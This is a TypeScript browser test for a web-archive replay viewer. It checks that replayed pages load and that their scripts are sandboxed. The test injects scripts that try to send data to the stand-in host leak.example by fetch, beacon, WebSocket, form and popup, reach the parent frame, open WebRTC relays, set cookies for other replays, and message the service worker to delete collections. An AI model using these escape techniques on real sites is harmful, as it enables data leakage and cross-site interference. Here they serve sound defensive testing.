/** A recorded page shown again in a real browser: it comes back by its permalink, and nothing it tries reaches anything else. */
import { createServer, type Server } from 'node:http'
import { createServer as createSocketServer, type AddressInfo, type Server as SocketServer } from 'node:net'
import { getRequestListener } from '@hono/node-server'
import { chromium, type Browser, type Frame, type Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { usableBrowser } from '../../src/cli/install-browser.ts'
import { readReplayViewer } from '../../src/replay-viewer.ts'
import { keep } from '../http/kept.ts'
import { openStand, type Stand } from '../http/stand.ts'
import { createSample, SITE, type Sample } from '../wacz/sample.ts'

let stand: Stand
let sample: Sample
let server: Server
let elsewhere: Server
/** Counts who connects, past any proxy. */
let relay: SocketServer
let relayed = 0
let browser: Browser
let service: string
let outside: string
const leaked: string[] = []
let shown: { readonly page: Page; readonly frame: Frame; readonly address: string }

beforeAll(async () => {
  stand = await openStand({ viewer: await readReplayViewer() })
  sample = await createSample()
  const kept = await keep(stand.store, {
    seed: 1,
    publish: false,
    wacz: sample.wacz,
    facts: { url: `${SITE}/`, finalUrl: `${SITE}/` },
  })
  const answer = getRequestListener((request) => stand.ask(request.url, request))
  server = createServer((request, response) => void answer(request, response))
  // Whatever is asked for beyond loopback goes to this proxy.
  elsewhere = createServer((request, response) => {
    leaked.push(request.url ?? '')
    response.end()
  })
  elsewhere.on('connect', (request, socket) => {
    // What Chromium asks of its maker by itself is no page's doing.
    if (request.url?.endsWith('googleapis.com:443') !== true) leaked.push(request.url ?? '')
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n')
  })
  relay = createSocketServer((socket) => {
    relayed += 1
    socket.on('error', () => {}).destroy()
  })
  service = await listen(server)
  outside = await listen(elsewhere)
  const found = await usableBrowser(() => undefined)
  if (found === null) throw new Error('no Chromium: run `npm run browser:install`')
  browser = await chromium.launch({
    executablePath: found.path,
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
    proxy: { server: 'http://127.0.0.1:9' },
  })
  const context = await browser.newContext({ proxy: { server: outside, bypass: '127.0.0.1,.localhost' } })
  const page = await context.newPage()
  await page.goto(`${service}/s/${kept.id}`)
  await page.getByRole('link', { name: 'Open the replay' }).click()
  shown = { page, frame: await replayed(page), address: page.url() }
}, 180_000)
afterAll(async () => {
  await browser?.close()
  relay?.close()
  for (const one of [server, elsewhere]) {
    one?.closeAllConnections()
    one?.close()
  }
  await sample?.dispose()
  await stand?.[Symbol.asyncDispose]()
})

test('by the link on its permalink => its words, its style and what its scripts fetched', async () => {
  const { page, frame } = shown
  await expect.poll(() => frame.textContent('#late'), { timeout: 30_000 }).toBe('came by script')
  expect(await frame.textContent('#words')).toBe('What a page said, it said here.')
  expect(await frame.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe('rgb(1, 2, 3)')
  expect(new URL(page.url()).hostname).toMatch(/^\w{17}\.replay\.localhost$/)
  expect(await page.getByRole('link', { name: 'Back to the permalink' }).getAttribute('href')).toMatch(
    /^http:\/\/127\.0\.0\.1:\d+\/s\/\w{17}$/,
  )
}, 60_000)

/** Each as the recorded page's own script would do it, past the viewer's dressing: by a fresh frame's untouched functions. */
const attacks = (target: string, own: string) => `(async () => {
  const fresh = document.createElement('iframe')
  document.body.append(fresh)
  const bare = fresh.contentWindow ?? window
  const tried = {}
  const attempt = async (name, act) => {
    try { tried[name] = String(await Promise.race([act(), new Promise((done) => setTimeout(done, 1500, 'nothing came'))])) }
    catch (fault) { tried[name] = 'refused ' + fault }
  }
  const loaded = (element) => new Promise((done) => { element.onload = () => done('LOADED'); element.onerror = () => done('refused'); document.body.append(element) })
  for (const [kind, make] of Object.entries({ window, bare })) {
    await attempt(kind + ' fetch', () => make.fetch('${target}/fetch', { mode: 'no-cors' }).then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED ' + answer.type))
    await attempt(kind + ' service', () => make.fetch('${own}/v1/documents/x').then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED'))
    await attempt(kind + ' handing in', () => make.fetch('${own}/v1/documents', { method: 'POST', body: 'x', mode: 'no-cors' }).then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED ' + answer.type))
  }
  await attempt('picture', () => loaded(Object.assign(new bare.Image(), { src: '${target}/picture' })))
  await attempt('script', () => loaded(Object.assign(bare.document.createElement('script'), { src: '${target}/script' })))
  await attempt('frame', async () => { fresh.src = '${target}/frame'; await new Promise((done) => setTimeout(done, 500)) })
  await attempt('socket', () => new Promise((done) => {
    const socket = new bare.WebSocket('${target.replace('http', 'ws')}/socket')
    socket.onopen = () => done('OPENED'); socket.onerror = () => done('refused')
  }))
  await attempt('beacon', async () => bare.navigator.sendBeacon('${target}/beacon', 'x'))
  await attempt('around', async () => bare.parent.parent.document.title)
  await attempt('form', async () => { const form = Object.assign(document.createElement('form'), { action: '${target}/form', method: 'post' }); document.body.append(form); form.submit() })
  await attempt('popup', async () => bare.open('${target}/popup') === null ? 'refused' : 'OPENED')
  await attempt('whole window', async () => { bare.top.location.href = '${target}/top' })
  return tried
})()`

test('what its scripts try against the network, the service and the frame around it => none of it arrives', async () => {
  const { page, frame } = shown
  const before = page.url()
  const tried = await frame.evaluate<Record<string, string>>(attacks('http://leak.example', service))
  expect(Object.entries(tried).filter(([, told]) => /ANSWERED|LOADED|OPENED/.test(told))).toEqual([])
  // Itself to another place: our frame's policy stops it.
  await frame
    .evaluate("setTimeout(() => { window.location.href = 'http://leak.example/self' }, 0)")
    .catch(() => {})
  await new Promise((later) => setTimeout(later, 1500))
  expect(page.url()).toBe(before)
  expect(leaked).toEqual([])
  // The counter counts.
  await page.goto('http://leak.example/told').catch(() => null)
  expect(leaked.length).toBeGreaterThan(0)
}, 60_000)

/** What no policy of today's browsers stops, by the page's own window and by a fresh frame's, at once and when that is dressed. */
const shutOut = (turn: string) => `(async () => {
  const told = {}
  const fresh = () => document.body.appendChild(document.createElement('iframe')).contentWindow
  const later = fresh()
  await new Promise((dressed) => setTimeout(dressed, 1000))
  for (const [kind, view] of Object.entries({ window, fresh: fresh(), later })) {
    try {
      const one = new view.RTCPeerConnection({ iceServers: [{ urls: '${turn}', username: 'a', credential: 'b' }] })
      one.createDataChannel('x')
      await one.setLocalDescription(await one.createOffer())
      told[kind + ' peer'] = 'OPENED'
    } catch { told[kind + ' peer'] = 'refused' }
    const { set } = Object.getOwnPropertyDescriptor(view.Document.prototype, 'cookie')
    set.call(document, 'wide' + kind + '=x; DOMAIN =replay.localhost; path=/')
    set.call(document, 'own' + kind + '=x; path=/')
    try { await view.cookieStore.set({ name: 'stored' + kind, value: 'x', domain: 'replay.localhost' }) } catch {}
    const { get } = Object.getOwnPropertyDescriptor(view.Navigator.prototype, 'serviceWorker')
    get.call(navigator).controller?.postMessage({ msg_type: 'removeColl', name: 'kept' })
  }
  await new Promise((done) => setTimeout(done, 1500))
  return told
})()`

test('again in the same browser, and once more by reloading => shown each time, and led in by the service', async () => {
  const page = await shown.page.context().newPage()
  await page.goto(shown.address)
  expect(await (await replayed(page)).textContent('#words')).toBe('What a page said, it said here.')
  const led = page.waitForRequest((request) => /-page\.replay\.localhost:\d+\/$/.test(request.url()))
  await page.reload()
  expect(await (await replayed(page)).textContent('#words')).toBe('What a page said, it said here.')
  expect((await (await led).response())?.fromServiceWorker()).toBe(false)
  await page.close()
}, 120_000)

test('peer connections, cookies for other replays, words to the viewer => shut in its windows and the frames it makes', async () => {
  const page = await shown.page.context().newPage()
  await page.goto(shown.address)
  const frame = await replayed(page)
  const { port } = new URL(await listen(relay))
  const told = await frame.evaluate<Record<string, string>>(shutOut(`turn:127.0.0.1:${port}?transport=tcp`))
  expect(told).toEqual({ 'window peer': 'refused', 'fresh peer': 'refused', 'later peer': 'refused' })
  expect(relayed).toBe(0)
  const cookies = await page.context().cookies()
  expect(cookies.map(({ name }) => name)).toContain('ownwindow')
  expect(cookies.filter(({ domain }) => !/^\.?\w{17}-page\./.test(domain))).toEqual([])
  expect(cookies.filter(({ path }) => !path.startsWith('/w/'))).toEqual([])
  await page.reload()
  expect(await (await replayed(page)).textContent('#words')).toBe('What a page said, it said here.')
  await page.close()
}, 180_000)

async function replayed(page: Page): Promise<Frame> {
  const deadline = Date.now() + 90_000
  while (Date.now() < deadline) {
    const frame = page.frames().find((one) => one.url().includes('mp_/'))
    if (frame !== undefined && (await frame.$('#words').catch(() => null)) !== null) return frame
    await new Promise((next) => setTimeout(next, 100))
  }
  throw new Error(`no replay: ${await page.frames()[1]?.textContent('body')}`)
}

async function listen(one: Server | SocketServer): Promise<string> {
  await new Promise<void>((ready) => one.listen(0, '127.0.0.1', ready))
  return `http://127.0.0.1:${(one.address() as AddressInfo).port}`
}
